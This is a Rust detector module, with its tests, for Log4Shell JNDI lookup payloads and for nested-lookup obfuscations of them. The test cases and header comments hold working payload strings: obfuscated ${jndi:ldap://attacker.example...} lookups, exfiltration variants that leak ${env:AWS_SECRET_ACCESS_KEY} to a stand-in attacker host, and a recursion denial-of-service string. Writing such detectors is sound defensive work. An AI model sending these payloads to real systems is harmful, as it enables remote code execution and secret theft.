//! JNDI lookups in the style of Log4Shell (CVE-2021-44228): a value that a vulnerable
//! Log4j 2 logs is expanded, and `${jndi:ldap://host/a}` makes the server fetch and run a
//! class from the sender's host.
//!
//! Payloads hide the `jndi` keyword behind nested lookups that Log4j resolves first:
//! `${${lower:j}ndi:..}`, `${${::-j}${::-n}${::-d}${::-i}:..}` (an empty lookup with a
//! default), `${${env:NaN:-j}ndi:..}`, `${j${upper:n}di:..}`, `${${date:'j'}ndi:..}`. A
//! pattern cannot follow that, so the detector *resolves* lookups the way Log4j's
//! substitution does and looks at what a lookup's name becomes:
//!
//! - a lookup is `${name}` or `${name:-default}` (the first `:-` separates the default);
//!   nested lookups inside it are resolved first, innermost first;
//! - the name's prefix (before its first `:`, case-insensitive, as Log4j lower-cases it)
//!   selects the lookup: `lower`/`upper` return their argument, `date` returns the quoted
//!   literals of its pattern, data lookups (`env`, `sys`, `java`, `ctx`, `main`, `k8s`, ...)
//!   return a value the sender cannot know, taken as empty; a default replaces an unknown
//!   or empty result; an unknown prefix leaves the lookup as written, as Log4j does;
//!   `base64` decodes its argument;
//! - `$${..}` is an escaped lookup, kept as text; like Log4j, the detector substitutes a
//!   lookup's result again, which is where escaped and base64-encoded lookups come alive;
//! - a lookup whose resolved prefix is `jndi` with a remote target is the attack.
//!
//! Rules: `jndi.lookup` (a literal `${jndi:...}`), `jndi.nested_lookup` (the prefix was
//! built from nested lookups), `jndi.exfiltration` (the JNDI URL carries a data lookup such
//! as `${env:AWS_SECRET_ACCESS_KEY}` or `${sys:java.version}`, which leaks it in the DNS or
//! LDAP request), `jndi.recursive_lookup` (self-referencing defaults such as
//! `${${::-${::-$${::-j}}}}` that send Log4j into unbounded recursion, CVE-2021-45105).
//! `jndi:java:comp/env/..` (a local JNDI name in a Log4j configuration) is not reported.
//!
//! Bounds: nesting and substitution of results beyond [`MAX_DEPTH`] levels are not
//! followed, a resolved name or result keeps at most [`MAX_NAME`] bytes, and the parser
//! reads each byte of the value once, so time and memory are linear in the value.

use super::Match;

/// Nested lookups resolved at most (payloads use two or three levels).
const MAX_DEPTH: usize = 16;
/// Bytes of a resolved lookup name kept (the prefix and the target are at its start).
const MAX_NAME: usize = 512;

/// Lookups that return data from the server: unknown to the sender, a leak when they are
/// placed in a JNDI URL.
const DATA_LOOKUPS: &[&str] = &[
    "env",
    "sys",
    "java",
    "ctx",
    "main",
    "map",
    "sd",
    "bundle",
    "k8s",
    "docker",
    "spring",
    "web",
    "log4j",
    "marker",
    "event",
    "jvmrunargs",
    "hostname",
];

pub fn detect(value: &str) -> Option<Match> {
    let finder = memchr::memmem::Finder::new("${");
    let mut from = 0;
    while let Some(found) = value.as_bytes().get(from..).and_then(|rest| finder.find(rest)) {
        let start = from + found;
        let mut resolver = Resolver { text: value, at: start + 2, rule: None, derived: false };
        resolver.lookup(start, 0);
        if let Some(rule) = resolver.rule {
            return Some(Match::new(rule, start..resolver.at));
        }
        from = resolver.at.max(start + 2);
    }
    recursive_lookup(value)
}

/// A lookup whose default value is itself a lookup, nested, or an escaped `$${` inside a
/// lookup: the self-referencing shape that sends Log4j 2 into unbounded recursion
/// (`${${::-${::-$${::-j}}}}`), a denial of service rather than a JNDI call.
fn recursive_lookup(value: &str) -> Option<Match> {
    static NESTED: std::sync::LazyLock<Option<regex::Regex>> = std::sync::LazyLock::new(|| {
        regex::Regex::new(r"\$\{\s*\$\{\s*::-\s*(?:\$\{\s*::-|\$\$\{)|\$\{\s*::-\s*\$\$\{").ok()
    });
    let found = NESTED.as_ref()?.find(value)?;
    Some(Match::new("jndi.recursive_lookup", found.range()))
}

struct Resolver<'a> {
    /// The value, or the result of a lookup that is substituted again.
    text: &'a str,
    /// The next byte to read; always on a character boundary.
    at: usize,
    /// The first JNDI lookup found.
    rule: Option<&'static str>,
    /// `text` is the result of a lookup, so any JNDI lookup in it was built by lookups.
    derived: bool,
}

/// What a lookup resolved to.
struct Resolved {
    text: String,
    /// It was a data lookup without a default: its value leaks the server's data.
    data: bool,
    /// Nothing resolved it: the text is the lookup as written.
    as_written: bool,
}

impl Resolver<'_> {
    /// Reads the lookup whose `${` starts at `opened`, up to its `}` (or the end of the
    /// text), and resolves it.
    fn lookup(&mut self, opened: usize, depth: usize) -> Resolved {
        let bytes = self.text.as_bytes();
        let mut name = String::new();
        // Where in `name` the first data lookup's value went.
        let mut data_at = None;
        // Escaped lookups (`$${..}`) read so far and not yet closed: their `}` is text.
        let mut escaped_open = 0usize;
        loop {
            match bytes.get(self.at) {
                None => break,
                Some(b'}') if escaped_open > 0 => {
                    escaped_open -= 1;
                    self.at += 1;
                    push_bounded(&mut name, "}");
                }
                Some(b'}') => {
                    self.at += 1;
                    break;
                }
                // `$${` is an escaped lookup: kept as text here, substituted when the
                // result is substituted again.
                Some(b'$')
                    if bytes.get(self.at + 1) == Some(&b'$') && bytes.get(self.at + 2) == Some(&b'{') =>
                {
                    self.at += 3;
                    escaped_open += 1;
                    push_bounded(&mut name, "${");
                }
                Some(b'$') if bytes.get(self.at + 1) == Some(&b'{') && depth < MAX_DEPTH => {
                    let inner = self.at;
                    self.at += 2;
                    let resolved = self.lookup(inner, depth + 1);
                    if resolved.data && data_at.is_none() {
                        data_at = Some(name.len());
                    }
                    push_bounded(&mut name, &resolved.text);
                }
                Some(_) => {
                    let Some(ch) = self.text.get(self.at..).and_then(|rest| rest.chars().next()) else {
                        break;
                    };
                    self.at += ch.len_utf8();
                    if name.len() < MAX_NAME {
                        name.push(ch);
                    }
                }
            }
        }
        let mut resolved = self.resolve(&name, opened, data_at);
        // Log4j substitutes a lookup's result again: `${${base64:JHtqbmRp..}}` and
        // escaped lookups come alive there. Results left as written are not.
        if !resolved.as_written && depth < MAX_DEPTH && resolved.text.contains("${") {
            resolved.text = self.substitute_again(&resolved.text, depth + 1);
        }
        resolved
    }

    fn resolve(&mut self, name: &str, opened: usize, data_at: Option<usize>) -> Resolved {
        let (variable, default) = match name.split_once(":-") {
            Some((variable, default)) => (variable, Some(default)),
            None => (name, None),
        };
        let (prefix, argument) = variable.split_once(':').unwrap_or(("", variable));
        let prefix = prefix.trim().to_ascii_lowercase();
        let known = |text: String| Resolved { text, data: false, as_written: false };
        match prefix.as_str() {
            "jndi" => {
                let target = argument.trim();
                if !target.is_empty() && !starts_with_ignore_case(target, "java:") {
                    self.report(opened, data_at.is_some_and(|at| at > prefix.len()));
                }
                // What the directory returns is unknown.
                known(String::new())
            }
            "lower" => known(argument.to_lowercase()),
            "upper" => known(argument.to_uppercase()),
            "date" => known(quoted_literals(argument)),
            "base64" => known(decode_base64(argument)),
            _ if default.is_some() => known(default.unwrap_or_default().to_owned()),
            data if DATA_LOOKUPS.contains(&data) => {
                Resolved { text: String::new(), data: true, as_written: false }
            }
            // Unknown prefixes and plain properties (`${HOME}`) stay as written.
            _ => Resolved { text: format!("${{{name}}}"), data: false, as_written: true },
        }
    }

    /// Substitutes the lookups in a lookup's result, as Log4j does.
    fn substitute_again(&mut self, result: &str, depth: usize) -> String {
        let mut again = Resolver { text: result, at: 0, rule: None, derived: true };
        let mut out = String::new();
        let bytes = result.as_bytes();
        while let Some(&b) = bytes.get(again.at) {
            if b == b'$' && bytes.get(again.at + 1) == Some(&b'{') {
                let opened = again.at;
                again.at += 2;
                let resolved = again.lookup(opened, depth);
                push_bounded(&mut out, &resolved.text);
            } else {
                let Some(ch) = result.get(again.at..).and_then(|rest| rest.chars().next()) else { break };
                again.at += ch.len_utf8();
                push_bounded(&mut out, ch.encode_utf8(&mut [0; 4]));
            }
        }
        if self.rule.is_none() {
            self.rule = again.rule;
        }
        out
    }

    fn report(&mut self, opened: usize, leaks_data: bool) {
        if self.rule.is_some() {
            return;
        }
        let literal = !self.derived
            && self
                .text
                .get(opened + 2..)
                .is_some_and(|after| starts_with_ignore_case(after.trim_start(), "jndi:"));
        self.rule = Some(if leaks_data {
            "jndi.exfiltration"
        } else if literal {
            "jndi.lookup"
        } else {
            "jndi.nested_lookup"
        });
    }
}

/// The `base64` lookup's result (bounded), when it decodes to text.
fn decode_base64(encoded: &str) -> String {
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD};
    let encoded: String = encoded.chars().filter(|ch| !ch.is_whitespace()).take(MAX_NAME * 2).collect();
    STANDARD
        .decode(&encoded)
        .or_else(|_| STANDARD_NO_PAD.decode(encoded.trim_end_matches('=')))
        .ok()
        .and_then(|bytes| String::from_utf8(bytes).ok())
        .unwrap_or_default()
}

fn push_bounded(name: &mut String, text: &str) {
    for ch in text.chars() {
        if name.len() + ch.len_utf8() > MAX_NAME {
            break;
        }
        name.push(ch);
    }
}

fn starts_with_ignore_case(text: &str, prefix: &str) -> bool {
    text.get(..prefix.len()).is_some_and(|start| start.eq_ignore_ascii_case(prefix))
}

/// The literal text of a `SimpleDateFormat` pattern: what is inside single quotes (`''` is
/// a quote). Pattern letters produce digits and names the sender does not control.
fn quoted_literals(pattern: &str) -> String {
    let mut literals = String::new();
    let mut quoted = false;
    let mut chars = pattern.chars().peekable();
    while let Some(ch) = chars.next() {
        if ch == '\'' {
            if chars.peek() == Some(&'\'') {
                chars.next();
                literals.push('\'');
            } else {
                quoted = !quoted;
            }
        } else if quoted {
            literals.push(ch);
        }
    }
    literals
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn rule(value: &str) -> Option<&'static str> {
        detect(value).map(|found| found.rule)
    }

    fn expect_rules(cases: &[(&str, &str)]) {
        crate::detectors::test_support::expect_rules(detect, cases);
    }

    fn expect_clean(values: &[&str]) {
        crate::detectors::test_support::expect_clean(detect, values);
    }

    #[test]
    fn literal_lookups_over_every_protocol() {
        expect_rules(&[
            ("${jndi:ldap://attacker.example:1389/a}", "jndi.lookup"),
            ("${jndi:ldaps://attacker.example/a}", "jndi.lookup"),
            ("${jndi:rmi://attacker.example:1099/obj}", "jndi.lookup"),
            ("${jndi:dns://attacker.example/x}", "jndi.lookup"),
            ("${jndi:iiop://attacker.example/x}", "jndi.lookup"),
            ("${jndi:corba://attacker.example/x}", "jndi.lookup"),
            ("${jndi:nis://attacker.example/x}", "jndi.lookup"),
            ("${jndi:nds://attacker.example/x}", "jndi.lookup"),
            ("${jndi:http://attacker.example/x}", "jndi.lookup"),
            ("${JNDI:LDAP://attacker.example/a}", "jndi.lookup"),
            ("${jNdI:lDaP://attacker.example/a}", "jndi.lookup"),
            ("Mozilla/5.0 ${jndi:ldap://127.0.0.1#attacker.example:1389/a}", "jndi.lookup"),
            ("${jndi:ldap://attacker.example/a", "jndi.lookup"),
            ("${ jndi:ldap://attacker.example/a}", "jndi.lookup"),
        ]);
    }

    #[test]
    fn obfuscated_prefixes_resolve_to_jndi() {
        expect_rules(&[
            ("${${lower:j}ndi:ldap://attacker.example/a}", "jndi.nested_lookup"),
            ("${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}", "jndi.nested_lookup"),
            (
                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/a}",
                "jndi.nested_lookup",
            ),
            ("${j${upper:n}di:ldap://attacker.example/a}", "jndi.nested_lookup"),
            ("${${upper:j}${upper:n}${upper:d}${upper:i}:dns://attacker.example/a}", "jndi.nested_lookup"),
            ("${${lower:${lower:jndi}}:ldap://attacker.example/a}", "jndi.nested_lookup"),
            (
                "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}",
                "jndi.nested_lookup",
            ),
            ("${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}", "jndi.nested_lookup"),
            ("${${main:\\k5:-Jnd}${spring:k5:-i}:ldap://attacker.example/a}", "jndi.nested_lookup"),
            ("${j${sys:sun.cpu.isalist}ndi:ldap://attacker.example/a}", "jndi.nested_lookup"),
            ("${jnd${upper:\u{131}}:ldap://attacker.example/a}", "jndi.nested_lookup"),
            ("${${::-j}nd${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/a}", "jndi.nested_lookup"),
            ("${${lower:jnd}${lower:i}:${lower:rmi}://attacker.example/a}", "jndi.nested_lookup"),
            ("${lower:${jndi:ldap://attacker.example/a}}", "jndi.lookup"),
            ("${${base64:JHtqbmRpOmxkYXA6Ly9hdHRhY2tlci5leGFtcGxlL2F9}}", "jndi.nested_lookup"),
            ("${${::-$${::-j}}ndi:ldap://attacker.example/a}", "jndi.nested_lookup"),
            ("${${lower:$${lower:J}}ndi:ldap://attacker.example/a}", "jndi.nested_lookup"),
        ]);
    }

    #[test]
    fn data_lookups_inside_the_url_leak() {
        expect_rules(&[
            ("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}", "jndi.exfiltration"),
            ("${jndi:dns://${sys:java.version}.attacker.example}", "jndi.exfiltration"),
            ("${jndi:ldap://attacker.example/${java:os}/${hostName}}", "jndi.exfiltration"),
            ("${${::-j}ndi:ldap://${env:USER}.attacker.example/a}", "jndi.exfiltration"),
            ("${jndi:ldap://attacker.example/${env:NaN:-x}}", "jndi.lookup"),
        ]);
    }

    #[test]
    fn placeholders_and_prose_pass() {
        expect_clean(&[
            "${HOME}",
            "${HOME}/bin:${PATH}",
            "${var}",
            "${price}",
            "Total: ${price} USD",
            "echo ${1:-default}",
            "${env:HOME}",
            "${sys:user.dir}/logs",
            "${spring.datasource.jndi-name}",
            "${jndi.name}",
            "${jndi}",
            "${jndi:}",
            "${jndi:java:comp/env/jdbc/orders}",
            "java:comp/env/jdbc/orders",
            "jndi:ldap://example.com is the Log4Shell pattern",
            "The JNDI lookup resolves names from a directory",
            "${lower:HELLO}",
            "${date:yyyy-MM-dd}",
            "${ctx:requestId} ${map:type}",
            "${${env:A}}",
            "{{name}}",
            "$schema",
            "$ref: '#/components/schemas/User'",
            "`${base}/users/${id}`",
            "${a}${b}${c}",
            "${",
            "$${",
            "}${}",
            "${::-x}${::-y}",
            "price is $5{10}",
            "Use ${env:JAVA_HOME:-/usr/lib/jvm} as default",
            "${j}${n}${d}${i}:ldap",
        ]);
    }

    #[test]
    fn deep_and_long_values_stay_bounded() {
        let deep = format!("{}jndi:ldap://x/a{}", "${".repeat(10_000), "}".repeat(10_000));
        assert!(detect(&deep).is_none() || detect(&deep).unwrap().span.end <= deep.len());
        let long_name = format!("${{jndi:ldap://{}}}", "a".repeat(100_000));
        assert_eq!(rule(&long_name), Some("jndi.lookup"));
        let many = "${x}".repeat(20_000);
        assert_eq!(detect(&many), None);
        // Escapes and defaults that re-substitute, nested far deeper than the bound.
        let escaped = format!("{}j{}", "${::-$$".repeat(5_000), "}".repeat(5_000));
        let _ = detect(&escaped);
        let recursion = "${${::-${::-$${::-j}}}}".repeat(5_000);
        assert_eq!(rule(&recursion), Some("jndi.recursive_lookup"));
    }

    proptest! {
        #[test]
        fn never_panics_and_spans_stay_inside(value in ".{0,300}") {
            if let Some(found) = detect(&value) {
                prop_assert!(value.get(found.span.clone()).is_some());
            }
        }

        #[test]
        fn lookup_like_inputs_never_panic(value in r"(\$\{|\}|:-|:|jndi|lower|upper|date|env|'|j|n|d|i|ldap|//|ı|é){0,60}") {
            if let Some(found) = detect(&value) {
                prop_assert!(value.get(found.span.clone()).is_some());
            }
        }
    }
}

#[cfg(test)]
mod recursion_tests {
    use super::detect;

    #[test]
    fn self_referencing_lookups() {
        assert_eq!(detect("${${::-${::-$${::-j}}}}").map(|m| m.rule), Some("jndi.recursive_lookup"));
        assert_eq!(detect("${ctx:user${::-$${::-x}}}").map(|m| m.rule), Some("jndi.recursive_lookup"));
        assert_eq!(detect("cost is $${price}"), None);
        assert_eq!(detect("${HOME}/bin and ${PATH}"), None);
    }
}
